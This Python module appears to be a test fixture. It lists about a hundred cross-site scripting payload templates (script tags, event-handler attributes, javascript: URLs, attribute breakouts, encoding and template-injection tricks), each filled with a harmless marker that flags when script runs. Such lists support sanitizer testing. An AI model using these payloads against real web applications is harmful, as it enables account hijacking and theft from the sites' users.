"""A hundred ways to run script from a text that gets into a page; each marks the page when it succeeds."""

# ruff: noqa: E501 - a payload reads best on one line
from __future__ import annotations

MARK = "document.documentElement.setAttribute(`data-ran`,1)"

_BARE = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script\n>{}</script >", "</script><script>{}</script>", "</style><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</svg><script>{}</script>", "</table><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "<svg><script>{}</script></svg>", "<svg><script>{}<b>", "<math><mtext><script>{}</script>", "<script src='data:text/javascript,{}'></script>",
    "<script type=module>{}</script>", "<scr<script>ipt>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<img src=x onerror=\"{}\">", "<img src=x onerror='{}'>", "<img/src=x/onerror={}>", "<IMG SRC=x ONERROR=\"{}\">", "<img src=x onerror\n=\n\"{}\">", "<image src=x onerror=\"{}\">",
    "<svg onload=\"{}\">", "<svg/onload={}>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<svg><set onbegin=\"{}\" attributeName=x to=1>",
    "<svg><use href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>\">", "<svg><foreignObject><body onload=\"{}\">", "<svg><image href=x onerror=\"{}\">",
    "<body onload=\"{}\">", "<body onpageshow=\"{}\">", "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">", "<video src=x onerror=\"{}\">", "<audio src=x onerror=\"{}\">",
    "<input autofocus onfocus=\"{}\">", "<select autofocus onfocus=\"{}\">", "<textarea autofocus onfocus=\"{}\">", "<button autofocus onfocus=\"{}\">", "<a href=# autofocus onfocus=\"{}\">x</a>",
    "<iframe srcdoc=\"<script>parent.{}</script>\">", "<iframe src=\"javascript:parent.{}\">", "<iframe onload=\"{}\">", "<object data=\"javascript:{}\">", "<embed src=\"javascript:{}\">",
    "<object data=x onerror=\"{}\">", "<link rel=stylesheet href=x onerror=\"{}\">", "<style onload=\"{}\"></style>", "<style>@import 'x';</style><script>{}</script>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=\"javascript:{}//\">", "<form action=\"javascript:{}\"><input type=submit autofocus>", "<marquee onstart=\"{}\">", "<keygen autofocus onfocus=\"{}\">", "<template shadowrootmode=open><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<p style=\"animation:x\" onanimationstart=\"{}\">", "<xss onanimationstart=\"{}\" style=\"animation-name:x\"></xss>", "<isindex type=image src=1 onerror=\"{}\">",
)  # fmt: skip
_ATTRIBUTE = (
    "\"><script>{}</script>", "'><script>{}</script>", "><script>{}</script>", "\"><img src=x onerror=\"{}\">", "'><img src=x onerror='{}'>", "\" onload=\"{}\" x=\"", "' onload='{}' x='",
    "\" onfocus=\"{}\" autofocus tabindex=0 x=\"", "\" onanimationstart=\"{}\" style=\"animation-name:x\" x=\"", "\" onbegin=\"{}\" x=\"", "\"/><svg onload=\"{}\"/>", "\" ontoggle=\"{}\" open x=\"",
    "javascript:{}", " javascript:{}", "java\nscript:{}", "data:text/html,<script>{}</script>", "x\" style=\"background:url(javascript:{})", "\0\"><script>{}</script>", "\x1b\"><script>{}</script>",
    "\ud800\"><script>{}</script>", "&quot;&gt;&lt;script&gt;{}&lt;/script&gt;", "&#34;><script>{}</script>", "%22%3E%3Cscript%3E{}%3C/script%3E", "\\\"><script>{}</script>", "\"}}</style><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{0}}<script>{}</script>", "%s<script>{}</script>", "'-{}-'", "\";{};//", "';{};//", "`;{};//", "*/{}/*", "\n{}\n",
    "<!--<script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "<?xml version=\"1.0\"?><script>{}</script>",
)  # fmt: skip

PAYLOADS = tuple(form.format(MARK) for form in (*_BARE, *_ATTRIBUTE))
